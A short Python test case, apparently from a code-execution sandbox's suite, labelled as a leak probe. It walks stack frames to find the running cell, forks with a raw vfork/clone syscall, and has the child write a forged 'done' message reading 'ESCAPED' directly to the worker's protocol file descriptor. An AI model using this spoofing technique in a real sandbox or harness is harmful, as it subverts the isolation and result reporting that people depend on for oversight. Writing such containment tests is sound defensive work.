# class: leak
# Starts a process by vfork; the child reports itself over the wire, since its parent may not continue.
import ctypes,os,platform,sys
from guest.worker.msgpack import pack
f=sys._getframe()
while not (isinstance(f.f_locals.get("frame"),dict) and "cell" in f.f_locals["frame"]): f=f.f_back
b=pack({"op":"done","cell":f.f_locals["frame"]["cell"],"head":"ESC"+"APED\n","tail":"","chars":8,"error":None,"final":None,"names":[],"wall_s":0.0})
b=len(b).to_bytes(4,"little")+b
l=ctypes.CDLL(None,use_errno=True); r=l.syscall(58) if platform.machine()=="x86_64" else l.syscall(220,0x4100|17,0,0,0,0)
if r==0: os.write(3,b); os._exit(0)
print("no errno %d"%ctypes.get_errno())
